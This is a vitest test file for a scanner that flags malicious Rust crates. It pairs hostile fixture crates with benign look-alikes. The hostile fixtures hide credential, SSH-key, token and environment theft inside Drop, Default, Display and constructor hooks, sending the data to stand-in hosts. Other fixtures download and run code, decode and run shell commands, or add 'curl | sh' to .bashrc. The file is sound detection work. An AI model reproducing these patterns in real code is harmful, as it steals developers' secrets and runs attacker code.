// Each flow rule through the real scanner, with the benign look-alikes it must leave below high.
import { describe, expect, it } from 'vitest';
import { findingsOf, manifest, ruleIds, scanFiles, worst } from '../../../../test/fixtures/scanner/crates.js';
import type { Files } from '../../../../test/fixtures/scanner/crates.js';
import { atLeast } from '../types.js';
import type { ScanReport, Severity } from '../types.js';

const lib = (name: string, files: Record<string, string>): Files => ({
  'Cargo.toml': manifest(name),
  ...files,
});
const high = (r: ScanReport) => r.verdict !== 'clean' && atLeast(r.verdict, 'high');

interface Case {
  name: string;
  files: Files;
  rule: string;
  severity: Severity | null;
  /** Text the flow finding's evidence must contain. */
  evidence?: string[];
  malicious: boolean;
}

const CASES: Case[] = [
  // --- flow.exfiltration ---
  {
    name: 'Default impl reads cloud credentials; a helper in another file posts them',
    files: lib('fx1', {
      'src/lib.rs': 'mod cfg; mod net;',
      'src/cfg.rs': [
        'pub struct Config { pub region: String }',
        'impl Default for Config {',
        '    fn default() -> Self {',
        '        let creds = std::fs::read_to_string("/home/u/.aws/credentials").unwrap_or_default();',
        '        crate::net::upload(&creds);',
        '        Config { region: String::new() }',
        '    }',
        '}',
      ].join('\n'),
      'src/net.rs': [
        'pub fn upload(data: &str) {',
        '    let _ = ureq::post("https://collect.fx1.example/c").send_string(data);',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'critical',
    evidence: ['Config::default → upload', 'impl Default for Config', 'src/cfg.rs:4'],
    malicious: true,
  },
  {
    name: 'a token stored in a field by new() is sent to a raw IP by another method',
    files: lib('fx2', {
      'src/lib.rs': [
        'pub struct Client { token: String }',
        'impl Client {',
        '    pub fn new() -> Self {',
        '        Client { token: std::env::var("NPM_TOKEN").unwrap_or_default() }',
        '    }',
        '    pub fn ping(&self) {',
        '        let _ = ureq::post("http://203.0.113.9/p").send_string(&self.token);',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'high',
    evidence: ['NPM_TOKEN', 'Client::new', 'Client::ping'],
    malicious: true,
  },
  {
    name: 'benign: opt-in telemetry sends the host name to the endpoint the caller configures',
    files: lib('fx3', {
      'src/lib.rs': [
        'pub struct Telemetry { endpoint: String }',
        'impl Telemetry {',
        '    /// Sends an anonymous usage report to the endpoint you configured. Off unless enabled.',
        '    pub fn send_report(&self) {',
        '        let host = gethostname::gethostname();',
        '        let _ = ureq::post(&self.endpoint).send_string(&format!("{host:?}"));',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'low',
    malicious: false,
  },
  {
    name: 'benign: an SDK constructor takes its API key from the environment for its own calls',
    files: lib('fx4', {
      'src/lib.rs': [
        'pub struct Api { key: String, base: String }',
        'impl Api {',
        '    pub fn from_env() -> Self {',
        '        Api { key: std::env::var("ACME_API_KEY").unwrap_or_default(), base: String::new() }',
        '    }',
        '    pub fn get(&self, path: &str) -> String {',
        '        ureq::get(&format!("{}{}", self.base, path)).set("Authorization", &self.key).call().unwrap().into_string().unwrap()',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'low',
    malicious: false,
  },
  {
    name: 'benign: a key-handling library reads SSH keys and has no network',
    files: lib('fx5', {
      'src/lib.rs': [
        'pub fn load_default_key() -> Vec<u8> {',
        '    let home = std::env::var("HOME").unwrap_or_default();',
        '    std::fs::read(format!("{home}/.ssh/id_ed25519")).unwrap_or_default()',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: null,
    malicious: false,
  },
  {
    name: 'a lazy_static initializer reads an SSH key and a thread started by init sends it',
    files: lib('fx15', {
      'src/lib.rs': [
        'lazy_static::lazy_static! {',
        '    static ref KEY: String = std::fs::read_to_string("/home/u/.ssh/id_ed25519").unwrap_or_default();',
        '}',
        'pub fn init() { std::thread::spawn(flush); }',
        'fn flush() {',
        '    let body = KEY.clone();',
        '    let _ = std::net::TcpStream::connect("logs.fx15.example:443").map(|mut s| { use std::io::Write; s.write_all(body.as_bytes()) });',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'critical',
    evidence: ['first call of the API (pub fn init) via init → flush'],
    malicious: true,
  },
  {
    name: 'a Display impl sends the cargo token',
    files: lib('fx16', {
      'src/lib.rs': [
        'pub struct Amount(u64);',
        'impl std::fmt::Display for Amount {',
        '    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {',
        '        let t = std::env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default();',
        '        let _ = ureq::post("https://t.fx16.workers.dev/").send_string(&t);',
        '        write!(f, "{}", self.0)',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'critical',
    evidence: ['impl Display for Amount', 'CARGO_REGISTRY_TOKEN'],
    malicious: true,
  },
  // --- flow.download-exec ---
  {
    name: "a logger's init fetches a program, marks it executable and runs it",
    files: lib('fx6', {
      'src/lib.rs': [
        'pub fn init() {',
        '    let body = ureq::get("https://cdn.fx6.example/u").call().unwrap().into_string().unwrap();',
        '    let path = std::env::temp_dir().join("u-FAKE-DO-NOT-RUN");',
        '    std::fs::write(&path, body).unwrap();',
        '    let _ = std::process::Command::new("chmod").arg("+x").arg(&path).status();',
        '    let _ = std::process::Command::new(&path).spawn();',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.download-exec',
    severity: 'critical',
    evidence: ['first call of the API (pub fn init)', 'ureq::get'],
    malicious: true,
  },
  {
    name: 'a CI check before a download-and-run on the public API raises it',
    files: lib('fx7', {
      'src/lib.rs': [
        'pub fn render() {',
        '    if std::env::var("CI").is_ok() { return; }',
        '    let body = ureq::get("https://cdn.fx7.example/u").call().unwrap().into_string().unwrap();',
        '    let path = "/tmp/u-FAKE-DO-NOT-RUN";',
        '    std::fs::write(path, body).unwrap();',
        '    let _ = std::process::Command::new(path).spawn();',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.download-exec',
    severity: 'critical',
    evidence: ['guarded by checks CI'],
    malicious: true,
  },
  {
    name: 'benign: a self-updater verifies the signature, on an explicit documented call',
    files: lib('fx8', {
      'src/lib.rs': [
        '/// Replaces the running binary with the latest release, after checking its signature',
        '/// against the embedded public key.',
        'pub fn self_update(url: &str) -> Result<(), Error> {',
        '    let bytes = ureq::get(url).call()?.into_string()?;',
        '    verify_signature(bytes.as_bytes(), PUBLIC_KEY)?;',
        '    let path = std::env::temp_dir().join("next");',
        '    std::fs::write(&path, &bytes)?;',
        '    std::process::Command::new(&path).arg("--version").status()?;',
        '    Ok(())',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.download-exec',
    severity: 'low',
    malicious: false,
  },
  {
    name: 'benign: a -sys build script downloads behind an opt-in, checks a pinned digest, unpacks with tar',
    files: {
      'Cargo.toml': manifest('fx9-sys', { package: 'build = "build.rs"\n' }),
      'src/lib.rs': '',
      'build.rs': [
        'use sha2::{Digest, Sha256};',
        'const SHA: &str = "3f786850e387550fdab836ed7e6dc881de23001b3f786850e387550fdab836ed";',
        'fn main() {',
        '    if std::env::var("CARGO_FEATURE_DOWNLOAD").is_err() { return; }',
        '    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());',
        '    let tgz = out.join("src.tgz");',
        '    let body = ureq::get("https://releases.fx9.example/v1.tgz").call().unwrap().into_string().unwrap();',
        '    assert_eq!(format!("{:x}", Sha256::digest(body.as_bytes())), SHA);',
        '    std::fs::write(&tgz, body).unwrap();',
        '    std::process::Command::new("tar").arg("xzf").arg(&tgz).status().unwrap();',
        '}',
      ].join('\n'),
    },
    rule: 'flow.download-exec',
    severity: 'medium',
    malicious: false,
  },
  // --- flow.decoded-exec ---
  {
    name: 'a #[ctor] function decodes a command and runs it in a shell',
    files: lib('fx10', {
      'src/lib.rs': [
        '#[ctor::ctor]',
        'fn boot() {',
        '    let cmd = base64::decode("ZWNobyBoaQ==").unwrap();',
        '    let text = String::from_utf8(cmd).unwrap();',
        '    let _ = std::process::Command::new("sh").arg("-c").arg(&text).spawn();',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.decoded-exec',
    severity: 'critical',
    evidence: ['#[ctor]'],
    malicious: true,
  },
  {
    name: 'benign: a documented pub fn decodes a base64 config and runs nothing',
    files: lib('fx11', {
      'src/lib.rs': [
        '/// Parses a base64-encoded configuration blob.',
        'pub fn parse_config(s: &str) -> Vec<u8> { base64::decode(s).unwrap_or_default() }',
        'pub fn open_pager() { let _ = std::process::Command::new("less").spawn(); }',
      ].join('\n'),
    }),
    rule: 'flow.decoded-exec',
    severity: null,
    malicious: false,
  },
  // --- flow.persistence ---
  {
    name: "a Drop impl appends to the user's shell rc file",
    files: lib('fx12', {
      'src/lib.rs': [
        'use std::io::Write;',
        'pub struct Session;',
        'impl Drop for Session {',
        '    fn drop(&mut self) {',
        '        let home = std::env::var("HOME").unwrap_or_default();',
        '        if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(format!("{home}/.bashrc")) {',
        '            let _ = writeln!(f, "curl -s https://x.fx12.example/a | sh");',
        '        }',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.persistence',
    severity: 'critical',
    evidence: ['impl Drop for Session'],
    malicious: true,
  },
  {
    name: 'benign: a documented completion installer writes ~/.bashrc when called',
    files: lib('fx13', {
      'src/lib.rs': [
        'use std::io::Write;',
        '/// Installs shell completions by appending a `source` line to ~/.bashrc.',
        'pub fn install_completions(home: &std::path::Path) -> std::io::Result<()> {',
        '    let mut f = std::fs::OpenOptions::new().append(true).open(home.join(".bashrc"))?;',
        '    writeln!(f, "source ~/.local/share/app/completions.bash")',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.persistence',
    severity: 'low',
    malicious: false,
  },
  {
    name: 'benign: a documented daemonizer writes a systemd user unit on request',
    files: lib('fx14', {
      'src/lib.rs': [
        '/// Installs and enables a systemd user unit so the daemon starts at login.',
        'pub fn daemonize(unit: &str) -> std::io::Result<()> {',
        '    std::fs::write("/home/u/.config/systemd/user/app.service", unit)?;',
        '    Ok(())',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.persistence',
    severity: 'low',
    malicious: false,
  },
  // --- sources and triggers added for the third author's training samples ---
  {
    name: 'a screenshot taken by a capture crate in Drop is posted to a server',
    files: lib('fx15', {
      'src/lib.rs': [
        'use screenshots::Screen;',
        'pub struct Session;',
        'impl Drop for Session {',
        '    fn drop(&mut self) {',
        '        let screen = Screen::all().unwrap_or_default().remove(0);',
        '        let img = screen.capture().unwrap();',
        '        let _ = ureq::post("https://dpi.fx15.example/c").send_bytes(img.as_raw());',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'critical',
    evidence: ['capture crate', 'impl Drop for Session'],
    malicious: true,
  },
  {
    name: 'benign: a screenshot library returns the capture to its caller and sends nothing',
    files: lib('fx16', {
      'src/lib.rs': [
        'use screenshots::Screen;',
        '/// Captures the primary screen.',
        'pub fn primary() -> Option<Vec<u8>> {',
        '    let screen = Screen::all().ok()?.into_iter().next()?;',
        '    screen.capture().ok().map(|i| i.into_raw())',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: null,
    malicious: false,
  },
  {
    name: 'a static constructor whose function is written inline in the static writes git hooks',
    files: lib('fx17', {
      'src/lib.rs': [
        'mod vcs;',
        '#[used]',
        '#[link_section = ".init_array"]',
        'static EARLY: extern "C" fn() = {',
        '    extern "C" fn early() { vcs::tidy(); }',
        '    early',
        '};',
      ].join('\n'),
      'src/vcs.rs': [
        'fn plant(repo: &std::path::Path) {',
        '    let dir = repo.join(".git").join("hooks");',
        '    for h in ["pre-commit", "post-checkout"] { let _ = std::fs::write(dir.join(h), "#!/bin/sh\\nexit 0\\n"); }',
        '}',
        'pub(crate) fn tidy() {',
        '    if let Ok(cwd) = std::env::current_dir() {',
        '        if let Some(r) = cwd.ancestors().find(|a| a.join(".git").exists()) { plant(r); }',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.tamper',
    severity: 'critical',
    evidence: ['static constructor', 'tidy → plant'],
    malicious: true,
  },
  {
    name: 'benign: an inline static constructor that only records the start time',
    files: lib('fx18', {
      'src/lib.rs': [
        'use std::sync::atomic::{AtomicU64, Ordering};',
        'static STARTED: AtomicU64 = AtomicU64::new(0);',
        '#[used]',
        '#[link_section = ".init_array"]',
        'static EARLY: extern "C" fn() = {',
        '    extern "C" fn early() { STARTED.store(now(), Ordering::Relaxed); }',
        '    early',
        '};',
        'fn now() -> u64 { 1 }',
        'pub fn started() -> u64 { STARTED.load(Ordering::Relaxed) }',
      ].join('\n'),
    }),
    rule: 'flow.tamper',
    severity: null,
    malicious: false,
  },
  {
    name: 'benign: a hook manager writes the hooks directory it is given, on an explicit call',
    files: lib('fx19', {
      'src/lib.rs': [
        'pub struct Hooks { root: std::path::PathBuf }',
        'impl Hooks {',
        '    pub fn discover() -> Option<Self> {',
        '        let cwd = std::env::current_dir().ok()?;',
        '        cwd.ancestors().find(|a| a.join(".git").exists()).map(|r| Hooks { root: r.to_path_buf() })',
        '    }',
        '    /// Installs the configured pre-commit hook into the repository.',
        '    pub fn install(&self, script: &str) -> std::io::Result<()> {',
        '        let dir = self.root.join(".git").join("hooks");',
        '        std::fs::write(dir.join("pre-commit"), script)',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.tamper',
    severity: 'medium',
    malicious: false,
  },
  {
    name: 'an SSH key sent over a socket made with raw libc calls',
    files: lib('fx20', {
      'src/lib.rs': [
        'pub struct Pool;',
        'impl Drop for Pool {',
        '    fn drop(&mut self) {',
        '        let key = std::fs::read("/home/u/.ssh/id_ed25519").unwrap_or_default();',
        '        unsafe {',
        '            let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);',
        '            let sa: libc::sockaddr_in = std::mem::zeroed();',
        '            if libc::connect(fd, &sa as *const _ as *const libc::sockaddr, 16) == 0 {',
        '                libc::send(fd, key.as_ptr() as *const libc::c_void, key.len(), 0);',
        '            }',
        '        }',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'critical',
    evidence: ['libc::send', 'impl Drop for Pool'],
    malicious: true,
  },
  {
    name: 'benign: a readiness notifier writes a fixed message to a unix socket with libc',
    files: lib('fx21', {
      'src/lib.rs': [
        '/// Tells the service manager the daemon is ready.',
        'pub fn notify_ready(path: &std::ffi::CStr) {',
        '    unsafe {',
        '        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_DGRAM, 0);',
        '        let mut sa: libc::sockaddr_un = std::mem::zeroed();',
        '        std::ptr::copy_nonoverlapping(path.as_ptr(), sa.sun_path.as_mut_ptr(), path.to_bytes().len());',
        '        libc::connect(fd, &sa as *const _ as *const libc::sockaddr, 110);',
        '        libc::send(fd, b"READY=1".as_ptr() as *const libc::c_void, 7, 0);',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: null,
    malicious: false,
  },
  {
    name: 'a program fetched with URLDownloadToFileW and started from Default',
    files: lib('fx22', {
      'src/lib.rs': [
        'pub struct Theme;',
        'impl Default for Theme {',
        '    fn default() -> Self {',
        '        let dst: Vec<u16> = "C:\\\\Users\\\\Public\\\\t-FAKE-DO-NOT-RUN.exe".encode_utf16().chain(Some(0)).collect();',
        '        let url: Vec<u16> = "http://198.51.100.8/t-FAKE-DO-NOT-RUN.exe".encode_utf16().chain(Some(0)).collect();',
        '        unsafe { URLDownloadToFileW(std::ptr::null_mut(), url.as_ptr(), dst.as_ptr(), 0, std::ptr::null_mut()); }',
        '        let _ = std::process::Command::new(String::from_utf16_lossy(&dst[..dst.len() - 1])).spawn();',
        '        Theme',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.download-exec',
    severity: 'critical',
    malicious: true,
  },
  {
    name: 'an SSH key carried in `ping -p` echo payloads from Drop',
    files: lib('fx23', {
      'src/lib.rs': [
        'pub struct Conn;',
        'impl Drop for Conn {',
        '    fn drop(&mut self) {',
        '        let k = std::fs::read("/home/u/.ssh/id_rsa").unwrap_or_default();',
        '        for c in k.chunks(16) {',
        '            let hex: String = c.iter().map(|b| format!("{b:02x}")).collect();',
        '            let _ = std::process::Command::new("ping").args(["-c", "1", "-p"]).arg(&hex).arg("198.51.100.77").status();',
        '        }',
        '    }',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'critical',
    evidence: ['"ping"'],
    malicious: true,
  },
  {
    name: 'benign: a reachability check pings a host the caller names (no payload pattern)',
    files: lib('fx24', {
      'src/lib.rs': [
        'pub fn reachable(host: &str) -> bool {',
        '    let _token = std::env::var("MONITOR_API_TOKEN").unwrap_or_default();',
        '    std::process::Command::new("ping").args(["-c", "1", "-W", "2", host]).status().map(|s| s.success()).unwrap_or(false)',
        '}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: null,
    malicious: false,
  },
  {
    name: 'the whole environment sent over a gRPC channel (tonic) from init()',
    files: lib('fx25', {
      'src/lib.rs': [
        'pub fn init() {',
        '    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();',
        '    let ch = tonic::transport::Channel::from_static("http://203.0.113.50:50051").connect_lazy();',
        '    let _ = send(ch, all.join("\\n"));',
        '}',
        'fn send(_c: tonic::transport::Channel, _s: String) {}',
      ].join('\n'),
    }),
    rule: 'flow.exfiltration',
    severity: 'high',
    malicious: true,
  },
];

describe('flow rules through the scanner', () => {
  for (const c of CASES) {
    it(`${c.rule}: ${c.name}`, async () => {
      const r = await scanFiles(c.files);
      expect(worst(r, c.rule)).toBe(c.severity);
      expect(high(r)).toBe(c.malicious);
      if (!c.malicious) expect(ruleIds(r, 'high')).toEqual([]);
      for (const e of c.evidence ?? []) expect(findingsOf(r, c.rule)[0]?.evidence).toContain(e);
    });
  }

  it('caps the same-file rule to the flow when the call is explicit and documented', async () => {
    const r = await scanFiles(CASES.find((c) => c.name.includes('completion installer'))!.files);
    const prox = findingsOf(r, 'code.persistence')[0];
    expect(prox?.severity).toBe('low');
    expect(prox?.why).toContain('Capped by flow.persistence');
  });

  it('gives the sink file and line and the flow in the evidence', async () => {
    const r = await scanFiles(CASES[0]!.files);
    const f = findingsOf(r, 'flow.exfiltration')[0]!;
    expect([f.file, f.line, f.context]).toEqual(['src/net.rs', 2, 'library']);
    expect(f.evidence).toMatch(
      /aws\/credentials.*src\/cfg\.rs:4.*→ .*ureq::post \(src\/net\.rs:2\); runs: impl Default/,
    );
  });
});
